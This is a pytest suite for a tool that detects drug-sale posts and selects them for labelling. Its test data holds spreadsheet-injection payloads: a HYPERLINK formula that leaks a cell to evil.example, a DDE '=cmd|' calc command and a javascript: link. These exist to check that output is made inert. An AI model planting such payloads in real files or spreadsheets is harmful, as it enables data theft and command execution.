"""Choosing posts to label: near the threshold, spread over strata, near-duplicates collapsed, some exploration."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

import pillscan.model as model_module
from pillscan.cli import cli, main
from pillscan.errors import InputError
from pillscan.labels import read_labels
from pillscan.sample import choose_for_labelling, near_duplicate_key


def _frame(n: int = 400, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    return pd.DataFrame(
        {
            # distinct after folding digits: the post number spelled in letters
            "text": ["post " + "".join("abcdefghij"[int(d)] for d in str(i)) for i in range(n)],
            "score": rng.uniform(0, 1, n).round(4),
            "drugs": [["oxycodone"] if i % 3 == 0 else ["alprazolam"] if i % 3 == 1 else [] for i in range(n)],
            "source": [f"file{i % 4}.jsonl" for i in range(n)],
            "author": [f"user{i % 25}" for i in range(n)],
        }
    )


def test_near_duplicates_share_a_key() -> None:
    assert near_duplicate_key("Xanax 2mg!!  DM me 555-1234") == near_duplicate_key("xanax 10mg dm me 555 9999")
    assert near_duplicate_key("xanax 2mg dm me") != near_duplicate_key("percs 30s dm me")


def test_most_are_near_the_threshold_and_spread_over_strata() -> None:
    frame = _frame()
    chosen = choose_for_labelling(frame, 40, 0.4, explore=0.25, seed=1)
    assert len(chosen) == 40 and chosen["text"].is_unique
    near = chosen[chosen["why"].str.startswith("near")]
    assert len(near) == 30
    # the near ones are closer to the threshold than the typical post
    assert (near["score"] - 0.4).abs().median() < (frame["score"] - 0.4).abs().median() / 3
    # spread: more accounts than the 30 posts nearest to the threshold would give, every source
    nearest = frame.loc[(np.log(frame["score"] / (1 - frame["score"])) - np.log(0.4 / 0.6)).abs().nsmallest(30).index]
    assert near["author"].nunique() > nearest["author"].nunique() and near["source"].nunique() == 4
    explored = chosen[chosen["why"].str.startswith("random")]
    assert explored["score"].map(lambda s: int(s * 10)).nunique() >= 8  # from (almost) every score band
    assert chosen.equals(choose_for_labelling(frame, 40, 0.4, explore=0.25, seed=1))  # deterministic


def test_near_copies_are_labelled_once() -> None:
    frame = pd.DataFrame({"text": [f"oxy 30s {i} dm me" for i in range(50)] + ["other post"], "score": 0.4})
    chosen = choose_for_labelling(frame, 10, 0.4)
    assert len(chosen) == 2 and set(chosen["text"]) == {"oxy 30s 0 dm me", "other post"}


def test_bad_requests_are_one_line_errors() -> None:
    with pytest.raises(InputError, match="needs columns text and score"):
        choose_for_labelling(pd.DataFrame({"text": ["a"]}), 1, 0.5)
    with pytest.raises(InputError, match="between 0 and 1"):
        choose_for_labelling(_frame(10), 1, 1.0)


def test_sample_command_writes_a_sheet_train_and_evaluate_read(tmp_path: Path) -> None:
    rows = _frame(60).assign(decision="clean", id=[f"p{i}" for i in range(60)])
    out = tmp_path / "scan.jsonl"
    out.write_text("".join(json.dumps(r) + "\n" for r in rows.to_dict(orient="records")))
    sheet = tmp_path / "to-label.csv"
    assert main(["sample", str(out), "-n", "12", "-o", str(sheet), "--threshold", "0.5"]) == 0
    filled = pd.read_csv(sheet, keep_default_na=False)
    assert len(filled) == 12 and set(filled.columns) >= {"text", "label", "id", "score", "why"}
    filled.loc[:5, "label"] = "offer"
    filled.loc[6:9, "label"] = "not_offer"  # two rows left blank: not decided
    filled.to_csv(sheet, index=False)
    labels = read_labels(sheet, require_both=True)
    assert (labels.offers, labels.not_offers, labels.skipped) == (6, 4, 2)


def test_a_scan_csv_reads_back_as_the_original_text(tmp_path: Path) -> None:
    """A scan's CSV marks formula-looking cells for spreadsheets; choosing posts from it gives the posts as
    they were (so the sheet does not mark them twice)."""
    posts = tmp_path / "in.jsonl"
    texts = ['=HYPERLINK("http://x.example","oxy 30s snap me")', "@plug xanax bars dm", "'=quoted percs for sale"]
    posts.write_text("".join(json.dumps({"id": f"+{i}", "text": t}) + "\n" for i, t in enumerate(texts)))
    out = tmp_path / "out.csv"
    assert main(["-q", "scan", str(posts), "-o", str(out), "--all", "--workers", "1"]) == 0
    assert "'=HYPERLINK" in out.read_text(encoding="utf-8")
    from pillscan.sample import read_scan_output

    rows = read_scan_output([str(out)])
    assert sorted(rows["text"]) == sorted(texts) and sorted(rows["id"]) == ["+0", "+1", "+2"]
    sheet = tmp_path / "sheet.csv"
    assert main(["sample", str(out), "-n", "3", "-o", str(sheet), "--threshold", "0.5"]) == 0
    assert sorted(read_labels_texts(sheet)) == sorted(texts)


def read_labels_texts(sheet: Path) -> list[str]:
    filled = pd.read_csv(sheet, dtype=str, keep_default_na=False).assign(label="offer")
    filled.to_csv(sheet, index=False)
    return list(read_labels(sheet).frame["text"])


# --- pillscan scan --label-sample N --------------------------------------------------------------------------


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"oxy 30s blues, snap me")',
    "+1 555 0100 xanax bars 2mg in stock, telegram @plug",
    "percs m30\r\nready, 1 for 30\rcashapp",  # CR, CRLF inside a post
    "bars \x00 nul and \x1b[31mescape\x1b[0m, dm me",
    "\u202eevil bidi\u202c adderall 30mg ships",
    '"quoted", with, commas, and ""doubled"" quotes, xanax',
    "  ",  # blank: skipped by the scan, never chosen
]


def _posts(tmp_path: Path, n: int = 80) -> Path:
    from conftest import TEXTS

    path = tmp_path / "in.jsonl"
    rows = [{"id": f"h{i}", "text": t} for i, t in enumerate(HOSTILE)]
    tag = ["".join("abcdefghij"[int(d)] for d in str(i)) for i in range(n)]  # distinct once digits are folded
    rows += [{"id": f"p{i}", "text": f"{TEXTS[i % len(TEXTS)]} #{tag[i]}"} for i in range(n)]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_scan_label_sample_is_the_sample_command_s_sheet_and_reads_back(tmp_path: Path, fmt: str) -> None:
    posts = _posts(tmp_path)
    out = tmp_path / f"out.{fmt}"
    assert main(["-q", "scan", str(posts), "-o", str(out), "--label-sample", "30", "--workers", "1"]) == 0
    sheet = tmp_path / "out.to-label.csv"  # the default: beside the output
    assert main(["-q", "sample", str(out), "-n", "30", "-o", str(tmp_path / "s.csv")]) == 0
    assert sheet.read_bytes() == (tmp_path / "s.csv").read_bytes()  # one picker, one sheet format
    filled = pd.read_csv(sheet, dtype=str, keep_default_na=False)
    assert len(filled) == 30 and filled["text"].is_unique and (filled["label"] == "").all()
    filled["label"] = ["offer" if i % 2 else "not_offer" for i in range(len(filled))]
    filled.to_csv(sheet, index=False)
    texts = set(read_labels(sheet).frame["text"])
    hostile = [t for t in HOSTILE if t.strip()]
    # Every hostile post chosen reads back exactly as posted (formulas unmarked, CRs and controls intact).
    assert texts & set(hostile) and all(t in hostile or t.split(" #")[0] in _texts() for t in texts)


def _texts() -> set[str]:
    from conftest import TEXTS

    return set(TEXTS)


def test_scan_label_sample_out_and_refusals(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    posts = _posts(tmp_path, 10)
    out, sheet = tmp_path / "o.jsonl", tmp_path / "mine.csv"
    args = ["-q", "scan", str(posts), "-o", str(out), "--label-sample", "5", "--label-sample-out", str(sheet)]
    assert main(args) == 0
    assert len(pd.read_csv(sheet)) == 5 and not (tmp_path / "o.to-label.csv").exists()
    cases = [
        (["-o", "-", "--label-sample", "5"], "not -o -"),
        (["-o", str(out), "--label-sample", "5", "--no-text"], "drop --no-text"),
        (["-o", str(out), "--label-sample-out", str(sheet)], "needs --label-sample N"),
        (["-o", str(out), "--label-sample", "5", "--label-sample-out", str(posts)], "input"),
        (["-o", str(out), "--label-sample", "5", "--label-sample-out", str(tmp_path / "no" / "s")], "does not exist"),
        (["-o", str(out), "--label-sample", "5", "--label-sample-out", str(out)], "o.jsonl"),
    ]
    for args, message in cases:
        before = posts.read_bytes()
        code = main(["-q", "scan", str(posts), *args])
        err = capsys.readouterr().err
        assert code != 0 and message in err and "Traceback" not in err, (args, err)
        assert len(err.strip().splitlines()) <= 2, err
        assert posts.read_bytes() == before
    assert main(["-q", "scan", str(posts), "-o", str(out), "--label-sample", "0"]) == 2  # click: at least 1


def test_choosing_from_a_stream_keeps_bounded_candidates_and_the_same_choice_when_small() -> None:
    from pillscan.sample import CANDIDATES_PER_POST, choose_from_rows

    rows = _frame(300).assign(decision="clean").to_dict(orient="records")
    small, seen = choose_from_rows(iter(rows), 20, 0.4, seed=3)
    assert seen == 300
    whole = choose_for_labelling(pd.DataFrame(rows), 20, 0.4, seed=3)
    assert list(small["text"]) == list(whole["text"]) and list(small["why"]) == list(whole["why"])
    # A long stream: only the closest candidates on each side and a reservoir per band are kept.
    kept: list[int] = []
    import pillscan.sample as sample_module

    real = sample_module.choose_for_labelling

    def spy(frame: pd.DataFrame, *args: object, **kwargs: object) -> pd.DataFrame:
        kept.append(len(frame))
        return real(frame, *args, **kwargs)  # type: ignore[arg-type]

    big = _frame(30_000, seed=1).assign(decision="clean").to_dict(orient="records")
    try:
        sample_module.choose_for_labelling = spy  # type: ignore[assignment]
        chosen, seen = choose_from_rows(iter(big), 10, 0.4, seed=3)
    finally:
        sample_module.choose_for_labelling = real  # type: ignore[assignment]
    keep = max(CANDIDATES_PER_POST * 10, 1000)
    assert seen == 30_000 and len(chosen) == 10 and kept[0] <= 2 * keep + 10 * 10
    near = chosen[chosen["why"].str.startswith("near")]
    assert (np.abs(near["score"] - 0.4) < 0.05).all()  # the closest of the whole stream, not of a prefix


# --- the sheet carries who posted, where and when (issue 13) ----------------------------------------------------

DEFAULT_MODEL = Path(__file__).resolve().parents[1] / "models" / "pillscan-default.joblib"
REAL_LOAD_MODEL = model_module.load_model


@pytest.fixture
def fake_model(monkeypatch: pytest.MonkeyPatch) -> object:
    """Every model the CLI loads is the keyword FakeModel (scans in a blink)."""
    from conftest import FakeModel

    model = FakeModel()
    monkeypatch.setattr(model_module, "load_model", lambda path=None, trust=False: model)
    return model


def _export_with_usernames(path: Path) -> Path:
    """A spreadsheet export: who posted (one name a formula, one a mention), when, a link, likes, and two columns
    named like the sheet's own (``Label``, ``Why``), which must not be taken for them."""
    evil, link = '=HYPERLINK("http://evil.example","x")', "https://x.com/{}/status/{}"
    rows = [
        ("plug_one", "2024-02-01 10:00", link.format("plug_one", 11), "3", "offer", "a", OFFERS_TEXT[0]),
        ("plug_one", "2024-02-03 10:00", link.format("plug_one", 12), "0", "", "b", OFFERS_TEXT[1]),
        (evil, "2024-02-02 10:00", "javascript:alert(1)", "-7", "", "c", OFFERS_TEXT[2]),
        ("@nurse_amy", "2024-02-04 10:00", link.format("nurse_amy", 14), "12", "", "d", "Police warn about fake pills"),
    ]
    header = ["Username", "Created At", "Permalink", "Likes", "Label", "Why", "Tweet"]
    pd.DataFrame(rows, columns=header).to_csv(path, index=False)
    return path


OFFERS_TEXT = ["xanax bars 2mg, snap me for the menu", "blue m30 available, telegram @plugz", "percs 10s, dm me"]


def _fill(sheet: Path) -> pd.DataFrame:
    """The analyst's part: every row labelled, offer and not_offer in turn (both classes, for evaluate)."""
    filled = pd.read_csv(sheet, dtype=str, keep_default_na=False)
    filled["label"] = ["offer" if i % 2 == 0 else "not_offer" for i in range(len(filled))]
    filled.to_csv(sheet, index=False)
    return filled


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_label_sheet_of_a_csv_with_usernames_carries_the_post_s_context(
    tmp_path: Path, fake_model: object, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    src = _export_with_usernames(tmp_path / "export.csv")
    out, sheet = tmp_path / f"out.{fmt}", tmp_path / "to-label.csv"
    args = ["-q", "scan", str(src), "-o", str(out), "--keep-col", "Likes", "--keep-col", "Label", "--keep-col", "Why"]
    assert main([*args, "--label-sample", "4", "--label-sample-out", str(sheet), "--workers", "1"]) == 0
    raw = sheet.read_text(encoding="utf-8")
    assert raw.splitlines()[0] == (
        "text,label,id,source,author,created_at,url,platform,Likes,input_Label,input_Why,score,decision,drugs,why"
    )  # (no channel: the export names none; kept columns named like the sheet's own renamed)
    assert "'=HYPERLINK" in raw and "'@nurse_amy" in raw and ",'-7," in raw  # inert in a spreadsheet
    # `pillscan sample` on the output gives the same sheet, byte for byte
    assert main(["-q", "sample", str(out), "-n", "4", "-o", str(tmp_path / "s.csv"), "--threshold", "0.5"]) == 0
    assert (tmp_path / "s.csv").read_bytes() == sheet.read_bytes()
    filled = _fill(sheet)
    by_text = {r["text"]: r for r in filled.to_dict(orient="records")}
    row = by_text[OFFERS_TEXT[0]]
    assert (row["author"], row["created_at"], row["url"], row["platform"], row["Likes"], row["input_Label"]) == (
        "plug_one", "2024-02-01 10:00", "https://x.com/plug_one/status/11", "x", "3", "offer",
    )  # fmt: skip
    assert by_text[OFFERS_TEXT[2]]["url"] == ""  # (a javascript: link is no link)
    # train --extra and evaluate read the filled sheet as it is: the sheet's label column, the original names
    labels = read_labels(sheet, require_both=True)
    assert labels.label_col == "label" and (labels.offers, labels.not_offers) == (2, 2)
    assert set(labels.frame["author"]) == {"plug_one", '=HYPERLINK("http://evil.example","x")', "@nurse_amy"}
    assert sorted(labels.frame["Likes"]) == sorted(["3", "0", "-7", "12"])
    from pillscan.train import load_extra

    extra, records = load_extra([sheet])  # what `train --extra` validates before it generates anything
    assert len(extra) == 4 and records[0]["rows_used"] == 4 and set(extra["text"]) == set(by_text)
    monkeypatch.setattr(model_module, "load_model", REAL_LOAD_MODEL)  # evaluate with the real model
    result = CliRunner().invoke(
        cli, ["evaluate", str(sheet), "--model", str(DEFAULT_MODEL), "--errors-out", str(tmp_path / "e.csv")]
    )
    assert result.exit_code == 0, result.output
    assert f"{sheet}: 4 labelled rows (2 offers)" in result.output
    assert "export.csv       4       2       2" in result.output  # (per source: rows, offers, not offers)


def test_label_sheet_of_an_x_archive_links_each_post(tmp_path: Path, fake_model: object) -> None:
    from conftest import x_archive_export

    src = x_archive_export(tmp_path)
    out = tmp_path / "out.jsonl"
    assert main(["-q", "scan", str(src), "-o", str(out), "--label-sample", "3", "--workers", "1"]) == 0
    sheet = pd.read_csv(tmp_path / "out.to-label.csv", dtype=str, keep_default_na=False)
    assert list(sheet.columns)[:8] == ["text", "label", "id", "source", "author", "created_at", "url", "platform"]
    assert set(sheet["author"]) == {"bluepharm_"} and set(sheet["platform"]) == {"x"}
    assert sorted(sheet["url"]) == [f"https://x.com/i/status/169900000000000000{i}" for i in (1, 2, 3)]
    assert sorted(sheet["created_at"])[0] == "2023-09-05T14:00:00Z"


def test_a_plain_output_s_sheet_has_no_empty_context_columns(tmp_path: Path) -> None:
    rows = _frame(20).drop(columns="author").assign(decision="clean", id=[f"p{i}" for i in range(20)])
    out = tmp_path / "scan.csv"
    rows.assign(author="", channel="", created_at="", url="", platform="").to_csv(out, index=False)
    sheet = tmp_path / "s.csv"
    assert main(["-q", "sample", str(out), "-n", "5", "-o", str(sheet), "--threshold", "0.5"]) == 0
    assert list(pd.read_csv(sheet).columns) == ["text", "label", "id", "source", "score", "decision", "drugs", "why"]


# --- pillscan sample: --trust-model like every command that loads a model ----------------------------------------


def test_sample_takes_trust_model_as_every_model_command_does(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    import shutil

    from pillscan.cli import cli as group

    for name, command in group.commands.items():
        options = {o for p in command.params for o in p.opts}
        assert "--model" not in options or "--trust-model" in options, name
    out = tmp_path / "scan.jsonl"
    out.write_text("".join(json.dumps(r) + "\n" for r in _frame(30).to_dict(orient="records")))
    cardless = tmp_path / "copy.joblib"
    shutil.copy(DEFAULT_MODEL, cardless)  # (its card left behind)
    args = ["-q", "sample", str(out), "-n", "5", "-o", str(tmp_path / "s.csv"), "--model", str(cardless)]
    assert main(args) == 1
    err = capsys.readouterr().err
    assert "--trust-model" in err and err.count("\n") == 1 and not (tmp_path / "s.csv").exists()
    assert main([*args, "--trust-model"]) == 0
    assert len(pd.read_csv(tmp_path / "s.csv")) == 5


# --- pillscan sample: hostile scan outputs ------------------------------------------------------------------------


def _gz_truncated(path: Path) -> None:
    import gzip

    data = gzip.compress(b"".join(json.dumps({"text": f"post {i}", "score": 0.5}).encode() + b"\n" for i in range(50)))
    path.write_bytes(data[: len(data) // 2])


HOSTILE_OUTPUTS = {
    "empty.jsonl": (b"", "no posts to choose from"),
    "empty.csv": (b"", "cannot read scan output"),
    "header-only.csv": (b"text,score\n", "no posts to choose from"),
    "latin1.csv": ("text,score\ncaf\xe9 xanax,0.5\n".encode("latin-1"), "utf-8"),
    "wrong.csv": (b"a,b\n1,2\n", "has no text and score columns"),
    "no-text.jsonl": (b'{"id":"1","score":0.5}\n', "has no text and score columns"),
    "not-json.jsonl": (b'{"text":"a","score":0.5}\n{"text": oops\n', "line 2 is not JSON"),
    "array.jsonl": (b'{"text":"a","score":0.5}\n[1,2]\n', "line 2 is no scan output row"),
    "binary.parquet": (b"PAR1 not really", "cannot read"),
    "cut.jsonl.gz": (None, "cannot read"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_OUTPUTS))
def test_hostile_scan_outputs_are_one_line_errors(tmp_path: Path, capsys: pytest.CaptureFixture, name: str) -> None:
    body, message = HOSTILE_OUTPUTS[name]
    path = tmp_path / name
    if body is None:
        _gz_truncated(path)
    else:
        path.write_bytes(body)
    code = main(["sample", str(path), "-n", "3", "-o", str(tmp_path / "s.csv"), "--threshold", "0.5"])
    err = capsys.readouterr().err
    assert code == 1 and message in err and name in err, err
    assert err.startswith("pillscan: error:") and err.count("\n") == 1 and "Traceback" not in err
    assert not (tmp_path / "s.csv").exists()


def test_rows_a_sheet_cannot_use_are_counted_and_huge_fields_kept(tmp_path: Path, capsys: Any) -> None:
    huge = "oxy 30s " + "a" * 300_000
    rows = [
        {"text": huge, "score": 0.6, "big": 12345678901234567890123},  # (an int no int64 holds: kept as written)
        {"text": "fine post", "score": 0.4, "author": "=cmd|' /C calc'!A0"},
        {"text": None, "score": 0.5},
        {"text": "no score"},
        {"text": "score out of range", "score": 7},
        {"text": "score not a number", "score": "high"},
        {"text": "   ", "score": 0.5},
    ]
    out = tmp_path / "scan.jsonl"
    out.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    sheet = tmp_path / "s.csv"
    assert main(["sample", str(out), "-n", "5", "-o", str(sheet), "--threshold", "0.5"]) == 0
    err = capsys.readouterr().err
    assert "chose 2 of 2 posts" in err and "5 left out for want of text or a score" in err
    raw = sheet.read_text(encoding="utf-8")
    assert "'=cmd|" in raw and "12345678901234567890123" in raw
    filled = _fill(sheet)
    assert set(filled["text"]) == {huge, "fine post"}
    assert set(read_labels(sheet).frame["author"]) == {"", "=cmd|' /C calc'!A0"}
    bad_target = ["sample", str(out), "-n", "2", "-o", str(tmp_path / "no" / "s.csv"), "--threshold", "0.5"]
    assert main(bad_target) == 1
    err = capsys.readouterr().err
    assert "cannot write the posts to label" in err and err.count("\n") == 1
    before = out.read_bytes()
    assert main(["sample", str(out), "-n", "2", "-o", str(out), "--threshold", "0.5"]) == 1  # never over its input
    err = capsys.readouterr().err
    assert "is one of the scan outputs read" in err and err.count("\n") == 1 and out.read_bytes() == before


def test_a_kept_column_named_like_a_formula_is_marked_once(tmp_path: Path, fake_model: object) -> None:
    """The scan's CSV header marks a kept column named '=cmd'; the sheet (from scan --label-sample and from
    pillscan sample) marks it once, not twice, and the labels reader gives back its name."""
    src = tmp_path / "in.csv"
    src.write_text('"=cmd",text\n1,xanax bars 2mg snap me\n2,percs 30s dm me\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    args = ["-q", "scan", str(src), "-o", str(out), "--keep-col", "=cmd", "--workers", "1", "--label-sample", "2"]
    assert main(args) == 0
    assert ",'=cmd," in out.read_text(encoding="utf-8").splitlines()[0]
    assert main(["-q", "sample", str(out), "-n", "2", "-o", str(tmp_path / "s.csv"), "--threshold", "0.5"]) == 0
    for sheet in (tmp_path / "out.to-label.csv", tmp_path / "s.csv"):
        assert (
            sheet.read_text(encoding="utf-8").splitlines()[0] == "text,label,id,source,'=cmd,score,decision,drugs,why"
        )
        _fill(sheet)
        assert sorted(read_labels(sheet).frame["=cmd"]) == ["1", "2"]


def test_by_default_three_quarters_explore_every_score_band_and_the_rest_sit_on_both_sides() -> None:
    """The default mix (EXPLORE_SHARE): most labels come from every score band, so that confident mistakes are
    labelled; the rest are the posts nearest the threshold, as many above it as below."""
    from pillscan.sample import EXPLORE_SHARE

    assert EXPLORE_SHARE == 0.75
    frame = _frame(1000)
    chosen = choose_for_labelling(frame, 80, 0.4, seed=3)
    explored = chosen[chosen["why"].str.startswith("random")]
    near = chosen[chosen["why"].str.startswith("near")]
    assert len(explored) == 60 and len(near) == 20
    bands = explored["score"].map(lambda s: min(int(s * 10), 9)).value_counts()
    assert len(bands) == 10 and bands.max() - bands.min() <= 1  # in turns: 6 from each band
    assert (near["score"] >= 0.4).sum() == 10 and (near["score"] < 0.4).sum() == 10
    assert (near["score"] - 0.4).abs().max() < (explored["score"] - 0.4).abs().median()
